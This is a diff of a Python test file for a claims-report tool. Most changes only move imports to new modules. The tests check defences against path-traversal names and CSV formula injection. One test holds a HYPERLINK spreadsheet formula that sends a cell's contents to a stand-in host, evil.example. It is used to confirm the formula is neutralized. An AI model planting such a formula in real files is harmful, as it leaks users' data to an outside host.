@@ -21,9 +21,10 @@ from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from claimbook import batch, charts, publish, render
 from claimbook.cli import cli
-from claimbook.config import BatchConfig, ReportParams
+from claimbook.params import BatchConfig, ReportParams
+from claimbook.publish import batch, folders, render
+from claimbook.report import charts
 from claimbook.store import typed_claims
 from claimbook.store.csv_write import FORMULA_STARTS, neutralize_cell, neutralize_formulas
 from datamaker import make_data
@@ -101,9 +102,9 @@ def test_hostile_claimant_names_make_safe_folders(claimant: str) -> None:
 
 
 def test_failed_reports_are_kept_inside_the_failed_folder(tmp_path: Path) -> None:
-    kept = publish.keep_failed({"error.log": b"x"}, tmp_path, render.slug(
+    kept = folders.keep_failed({"error.log": b"x"}, tmp_path, render.slug(
         ReportParams(claimants=("../../escape",))))
-    assert kept.parent == tmp_path / publish.FAILED_DIR
+    assert kept.parent == tmp_path / folders.FAILED_DIR
     assert (kept / "error.log").read_bytes() == b"x"
 
 
@@ -111,7 +112,7 @@ def test_failed_reports_are_kept_inside_the_failed_folder(tmp_path: Path) -> Non
 def test_result_files_are_plain_names(tmp_path: Path, bad: str) -> None:
     """A result may come from a Dask worker on another machine: it names files, never paths."""
     with pytest.raises(render.RenderError):
-        publish.publish({bad: b"x"}, tmp_path / "out")
+        folders.publish({bad: b"x"}, tmp_path / "out")
     assert not (tmp_path / "out").exists()
     assert not list(tmp_path.iterdir()), "no temporary folder left behind"
 
@@ -281,7 +282,7 @@ def test_soft_breaks_split_only_long_words_of_text() -> None:
 
 @pytest.mark.parametrize("url", ["https://example.org/" + LONG_WORD, "http://x.example/" + "b" * 200])
 def test_a_long_address_is_shown_whole_and_linked_by_its_start(url: str) -> None:
-    from claimbook.report import LINKED_CHARS, link
+    from claimbook.report.sections import LINKED_CHARS, link
 
     soup = BeautifulSoup(f"<li>{link(url)}</li>", "html.parser")
     a = soup.find("a")
@@ -305,13 +306,14 @@ def test_review_cells_neutralize_and_restore_exactly(value: str) -> None:
 
 def test_a_formula_in_a_source_is_inert_in_the_review_file_and_accepted_verbatim(
         data_copy: Path, tmp_path: Path) -> None:
-    from claimbook import review, sources, store
+    from claimbook import store
+    from claimbook.sources import register, review
 
     text = ('=HYPERLINK("https://evil.example/?"&A1,"Details") said the ministry on 3 '
             "September 2025.\n-5 degrees, the ministry said.\n")
     article = tmp_path / "a.txt"
     article.write_text(text, encoding="utf-8")
-    src = sources.add_source(data_copy, article, title="t", publisher="p")
+    src = register.add_source(data_copy, article, title="t", publisher="p")
     out = tmp_path / "review.csv"
     rows = [{c: "" for c in review.REVIEW_COLUMNS} | {
         "candidate_id": f"K00{i}", "mention": "1", "keep": "yes", "claim": quote,
